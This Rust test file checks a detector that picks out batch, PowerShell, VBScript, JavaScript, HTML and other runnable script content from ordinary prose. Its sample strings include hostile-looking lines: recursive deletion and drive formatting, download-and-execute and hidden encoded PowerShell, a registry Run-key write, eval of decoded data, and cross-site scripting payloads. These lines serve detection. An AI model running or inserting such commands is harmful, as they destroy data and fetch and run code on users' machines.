//! Scripts are told from prose: both directions, and the awkward cases between.

use super::in_text;

#[track_caller]
fn assert_scripts(what: &str, texts: &[&str]) {
    for text in texts {
        match in_text(text) {
            Some(found) => assert!(found.contains(what), "{found}, not {what}: {text}"),
            None => panic!("{what} passed as prose: {text}"),
        }
    }
}

#[test]
fn batch_is_refused() {
    assert_scripts(
        "batch",
        &[
            "@echo off",
            "@ECHO OFF\r\ndel /q C:\\Temp\\*.*\r\n",
            "rem made by me\r\n:: and again\r\necho off\r\nformat d:\r\n",
            "@if exist x.txt goto end",
            "@powershell -File x.ps1",
            "setlocal enabledelayedexpansion\r\nset N=5\r\n",
            "set /p NAME=Your name: \r\necho %NAME%",
            "set PATH=C:\\evil;%PATH%\r\n",
            "for /f %%a in ('dir') do echo %%a",
            "cd /d %~dp0\r\n",
            "del /f /s /q C:\\*",
            "start \"\" calc.exe",
            "reg add HKCU\\Software\\Run /v x /d y",
            "cmd.exe /c calc",
            "echo Hello\r\npause\r\n",
            "if exist x.txt (\r\n  del x.txt\r\n)\r\npause\r\n",
            "taskkill /im explorer.exe /f",
        ],
    );
}

#[test]
fn powershell_is_refused() {
    assert_scripts(
        "PowerShell",
        &[
            "Write-Host 'hello'",
            "Write-Host hello",
            "<#\n.SYNOPSIS\n Does it\n#>\nparam(\n  [string]$Name\n)\nWrite-Output $Name",
            "[CmdletBinding()]\nparam()\n",
            "#Requires -Version 5\nGet-Process",
            "# clean up\nGet-ChildItem -Path C:\\ -Recurse | Remove-Item -Force",
            "$client = New-Object System.Net.WebClient\n$client.DownloadFile('http://x/y.exe', 'y.exe')",
            "$ErrorActionPreference = 'Stop'",
            "$env:PATH += ';C:\\x'",
            "iex (iwr http://example.test/x.ps1)",
            "Invoke-WebRequest http://example.test/x.exe -OutFile x.exe",
            "Set-ExecutionPolicy Bypass",
            "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
            "function Get-Secret {\n  param($x)\n}",
            "powershell -nop -w hidden -enc AAAA",
        ],
    );
}

#[test]
fn vbscript_is_refused() {
    assert_scripts(
        "VBScript",
        &[
            "Set shell = CreateObject(\"WScript.Shell\")\nshell.Run \"calc\"",
            "Option Explicit\nDim x\n",
            "On Error Resume Next",
            "' a comment\nMsgBox \"Hello\"",
            "Dim fso, file\nSet fso = CreateObject(\"Scripting.FileSystemObject\")",
            "WScript.Echo \"Hello\"",
            "strComputer = \".\"\nSet wmi = GetObject(\"winmgmts:\\\\\" & strComputer)",
            "Sub AutoOpen()\n  Dim x\n  x = \"1\"\nEnd Sub\n",
            "Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub",
        ],
    );
}

#[test]
fn javascript_is_refused() {
    assert_scripts(
        "JavaScript",
        &[
            "alert(1);",
            "alert('hello')",
            "'use strict';\nlet x = 1;",
            "// a comment\nconsole.log('hi');",
            "/* a licence\n * of many lines\n */\nvar shell = new ActiveXObject('WScript.Shell');",
            "(function () {\n  return 1;\n})();",
            "function run() {\n  document.write('x');\n}\nrun();",
            "const fs = require('fs');",
            "const { a, b } = require('c');",
            "import React from 'react';\n\nexport default function App() {\n}",
            "import { x } from \"./x\"",
            "module.exports = {\n  a: 1,\n};",
            "window.location = 'http://example.test';",
            "document.getElementById('x').innerHTML = y;",
            "$(document).ready(function () {",
            "new ActiveXObject('WScript.Shell').Run('calc');",
            "eval(atob('AAAA'))",
            "class Robot extends Machine {\n}",
        ],
    );
}

#[test]
fn html_is_refused() {
    assert_scripts(
        "HTML",
        &[
            "<!DOCTYPE html>\n<p>Hello",
            "<!doctype HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
            "<html><body>Hello</body></html>",
            "<HTML>",
            "<!-- a comment -->\n<!-- another -->\n<head><title>x</title></head>",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE html>",
            "<?xml version=\"1.0\"?><svg onload=alert(1)>",
            "<script>alert(1)</script>",
            "<script src=\"http://example.test/x.js\"></script>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "<iframe src=x>",
            "<img src=x onerror=alert(1)>",
            "<b>Hello</b>\n<script>\nalert(1)\n</script>",
            "Hello\n<body>\n<p>World</p>\n</body>\n",
            "<hta:application id=x>",
        ],
    );
}

#[test]
fn other_things_that_run_are_refused() {
    assert_scripts(
        "script",
        &["<?php system('ls');", "#! /bin/sh", "#@~^DgAAAA==", "<%@ page %>"],
    );
    assert_scripts(
        "setting",
        &[
            "Windows Registry Editor Version 5.00\r\n",
            "[InternetShortcut]\nURL=x",
        ],
    );
}

#[test]
fn prose_is_no_script() {
    for prose in [
        "Dear client,\n\nmy function in the team was lead developer. I used <b>Rust</b> and PowerShell.\n",
        "I replaced all <script> tags by modules; see <script>…</script> in your page.",
        "Hi,\n\nthis is how I would do it:\n\nfunction add(a, b) {\n  return a + b;\n}\n\nBest regards,\nAda\n",
        "Let me explain: let x = 5 be the rate.",
        "let x = 5 be the number of sprints",
        "Import experience from 'Acme Ltd' and others.",
        "import duties from \"China\" are a topic I know well.",
        "Set expectations early and often.",
        "Set goals = clear results.",
        "Start with a small project, then grow.\nPause when needed.",
        "Copy and/or paste as you like.",
        "Copy the files to C:\\Temp and run the installer there.",
        "Format: PDF, Word or Markdown /md/ as you like",
        "If not defined otherwise, I work 30 hours per week.",
        "For each project I keep a log.",
        "Echo Park, Los Angeles\n\nDear Sir or Madam,\nI am writing to apply.",
        "Title Design & Co.\nDear Sir,\nplease find my offer.",
        "Call me on Monday.\nGoto meetings are fine too.",
        "Net 30 payment terms.",
        "net income grew by 5 %, gross by 10 %.",
        "Dim lights and soft music.",
        "Dim\nlights",
        "On error, resume where you stopped.",
        "Get-Content is my favourite cmdlet.",
        "Get-Process and Stop-Process are what I automate most.",
        "Write-only memory is a joke.",
        "Add-on development, set-up and start-up consulting.",
        "$50 = one hour of my time.",
        "$500 is my price",
        "# My offer\n\n## Scope\n\n- API\n- Console\n",
        "* one\n* two\n/* three */",
        "// TODO list\n1. Call\n2. Write\n",
        "alert(1) is the classic way to show cross-site scripting.",
        "window.location was wrong (see below)",
        "Document. Window. Console. These were my first words (almost);",
        "new developments (since May)",
        "New clients get 10 % off;\nOld clients get 15 % off;\n",
        "class of 2020 {alumni}",
        "return on investment is 5;",
        "Export default settings, then import them again.",
        "Option explicit is what I recommend.",
        "Function points (FP) measure size",
        "public function and private duty (both)",
        "{\n  \"name\": \"Ada\",\n  \"rate\": 90\n}\n",
        "name,rate\nAda,90\nBob,80\n",
        "<p> is a paragraph, <b> is bold.",
        "<b>Dear client</b>, hello",
        "<name> at <company>",
        "<your name here>\n<your on-call number=5>",
        "a < b and c > d",
        "'Quoted' words at the start.",
        "--\nAda\n",
        "12345",
        "Die Funktion (siehe unten) ist fertig;\nIch liefere morgen;\nViele Grüße;\nAda;\n",
        "fn main() {\n    println!(\"Hello\");\n}\n",
        "@ada I can start on Monday",
        "@if you need me, call",
        "https://example.test/portfolio?x=1&y=2",
        "Skills: Rust; SQL; HTML;\nRate: 90;\n",
    ] {
        assert_eq!(in_text(prose), None, "{prose}");
    }
}

#[test]
fn a_text_of_comments_alone_is_no_script() {
    assert_eq!(in_text("# a\n// b\n' c\nrem d\n/* e"), None);
}
